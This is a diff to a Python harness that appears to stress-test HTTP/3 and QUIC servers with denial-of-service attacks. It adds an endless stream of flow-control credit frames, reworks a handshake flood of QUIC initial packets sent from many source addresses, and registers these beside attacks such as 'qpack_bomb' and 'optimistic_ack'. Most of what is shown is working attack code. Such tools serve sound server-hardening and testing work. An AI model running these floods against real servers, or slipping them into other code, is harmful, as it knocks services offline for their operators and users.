@@ -18,7 +18,7 @@ import socket
 import ssl
 import sys
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from typing import Any
 
 from aioquic.h3.connection import H3Connection
@@ -407,6 +407,14 @@ def _send_frame(client: Client, kind: int, data: bytes) -> None:
     client.flush()
 
 
+def credit_updates(client: Client) -> Steps:
+    """MAX_STREAM_DATA frames, each a byte more for a response that waits for none."""
+    stream = client.request(b"/echo", end=False)
+    for number in itertools.count(1 << 20):
+        _send_frame(client, 0x11, (varint(stream) + varint(number)))
+        yield
+
+
 def slow_bodies(client: Client) -> Steps:
     """Uploads on all streams, a byte of each every 10 ms at most."""
     streams = []
@@ -421,10 +429,10 @@ def slow_bodies(client: Client) -> Steps:
 # --- attacks before a connection ------------------------------------------------------------------------------
 
 
-def first_packets(count: int) -> list[bytes]:
-    """First packets of as many connections."""
+def first_packets() -> list[bytes]:
+    """First packets of connections."""
     found = []
-    for _ in range(count):
+    for _ in range(INITIALS):
         configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="localhost")
         quic = QuicConnection(configuration=configuration)
         quic.connect(("127.0.0.1", 1), now=0.0)
@@ -432,9 +440,12 @@ def first_packets(count: int) -> list[bytes]:
     return found
 
 
-def handshake_flood(address: tuple[str, int], seconds: float) -> Outcome:
-    """First packets of connections whose handshakes do not go on, each from an address of its own."""
-    packets = first_packets(INITIALS)
+def handshake_flood(address: tuple[str, int], seconds: float, packets: Sequence[bytes] = ()) -> Outcome:
+    """First packets of connections whose handshakes do not go on, each from an address of its own.
+
+    `packets`: of `first_packets`; by default new ones.
+    """
+    packets = packets or first_packets()
     sockets: list[socket.socket] = []
     began, sent, received = time.monotonic(), 0, 0
     try:
@@ -486,6 +497,7 @@ ON_CONNECTIONS: dict[str, Callable[[Client], Steps]] = {
         *(qpack_blocked, qpack_insertions, qpack_bomb, long_headers, unidirectional_streams),
         *(pings, optimistic_ack, migrations, slow_bodies),
         *(new_connection_ids, retired_connection_ids, crypto_gaps, stream_gaps),
+        *(credit_updates,),
     )
 }
 BEFORE: dict[str, Callable[[tuple[str, int], float], Outcome]] = {
